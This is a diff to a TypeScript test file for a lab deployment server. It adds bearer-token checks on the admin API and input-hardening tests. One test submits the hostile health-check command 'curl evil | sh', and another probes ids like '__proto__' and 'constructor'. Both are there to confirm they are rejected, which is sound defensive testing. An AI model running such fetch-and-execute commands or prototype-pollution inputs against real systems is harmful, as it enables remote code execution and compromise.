@@ -4,7 +4,9 @@ import path from 'node:path';
 import pino from 'pino';
 import { afterEach, describe, expect, it } from 'vitest';
 import { Deployer } from '../../src/deployer/server.js';
-import { DeployerStore } from '../../src/deployer/store.js';
+import { DeployerStore, MAX_PROGRESS } from '../../src/deployer/store.js';
+
+const TOKEN = 'test-admin-token';
 
 const contract = {
   pools: { control: {} },
@@ -28,6 +30,7 @@ describe('lab deployer (real HTTP on loopback)', () => {
     const artifacts = path.join(dir, 'artifacts');
     const d = new Deployer({
       contract,
+      adminToken: TOKEN,
       store: new DeployerStore(path.join(dir, 'state.json')),
       artifacts,
       publicUrl: (p) => `http://10.0.2.2:${p}`,
@@ -37,10 +40,17 @@ describe('lab deployer (real HTTP on loopback)', () => {
     open.push(d);
     return d;
   };
-  const call = async (d: Deployer, method: string, route: string, body?: unknown, accept = 'application/json') => {
+  const call = async (
+    d: Deployer,
+    method: string,
+    route: string,
+    body?: unknown,
+    accept = 'application/json',
+    token: string | null = TOKEN,
+  ) => {
     const r = await fetch(`http://127.0.0.1:${d.port}${route}`, {
       method,
-      headers: { 'content-type': 'application/json', accept },
+      headers: { 'content-type': 'application/json', accept, ...(token ? { authorization: `Bearer ${token}` } : {}) },
       body: body === undefined ? undefined : JSON.stringify(body),
     });
     return { status: r.status, text: await r.text() };
@@ -86,6 +96,47 @@ describe('lab deployer (real HTTP on loopback)', () => {
     expect(bad.text).toContain('machine_id');
     expect((await call(d, 'GET', '/api/v1/bundles/missing.tar.gz')).status).toBe(404);
   });
+
+  it("the admin API needs the run's token; guests' routes do not", async () => {
+    const d = await start(mkdtempSync(path.join(os.tmpdir(), 'uc-deployer-')));
+    for (const token of [null, 'guessed']) {
+      const r = await call(
+        d,
+        'POST',
+        '/api/v1/admin/nodes',
+        { ...node, desired_system: { ...node.desired_system, health_check: 'curl evil | sh' } },
+        'application/json',
+        token,
+      );
+      expect(r.status, String(token)).toBe(401);
+      expect((await call(d, 'GET', '/api/v1/admin/nodes', undefined, 'application/json', token)).status).toBe(401);
+    }
+    expect(d.store.nodes()).toEqual({});
+    expect((await call(d, 'POST', '/api/v1/admin/nodes', node)).status).toBe(201);
+    expect((await call(d, 'POST', '/api/v1/phone-home', { machine_id: 'SER-1' }, 'application/json', null)).status).toBe(200);
+  });
+
+  it('refuses a machine id registered under another node, hostile ids, unknown fields, and keeps progress bounded', async () => {
+    const d = await start(mkdtempSync(path.join(os.tmpdir(), 'uc-deployer-')));
+    await call(d, 'POST', '/api/v1/admin/nodes', node);
+    const dup = await call(d, 'POST', '/api/v1/admin/nodes', { ...node, id: 'bm-2' });
+    expect(dup.status).toBe(409);
+    expect(dup.text).toContain('machine \\"SER-1\\" is already registered as node \\"bm-1\\"');
+    for (const id of ['__proto__', 'constructor', 'toString', 'hasOwnProperty']) {
+      const r = await call(d, 'POST', `/api/v1/nodes/${id}/progress`, { stage: 'x' });
+      expect(r.status, id).toBe(404);
+      expect((await call(d, 'GET', `/api/v1/nodes/${id}/desired-system`)).status, id).toBe(404);
+    }
+    const extra = await call(d, 'POST', '/api/v1/nodes/bm-1/progress', { stage: 'x', evil: 1 });
+    expect(extra.status).toBe(400);
+    expect(extra.text).toContain('evil');
+    expect((await call(d, 'POST', '/api/v1/nodes/bm-1/progress', { stage: 'x', detail: 'y'.repeat(1_000_000) })).status).toBe(400);
+    for (let i = 0; i < MAX_PROGRESS + 20; i++) await call(d, 'POST', '/api/v1/nodes/bm-1/progress', { stage: `s${i}` });
+    const n = d.store.node('bm-1')!;
+    expect(n.progress).toHaveLength(MAX_PROGRESS);
+    expect(n.progress.at(-1)!.stage).toBe(`s${MAX_PROGRESS + 19}`);
+    expect(n.progressDropped).toBe(20);
+  }, 30_000);
 });
 
 describe('deployer store', () => {
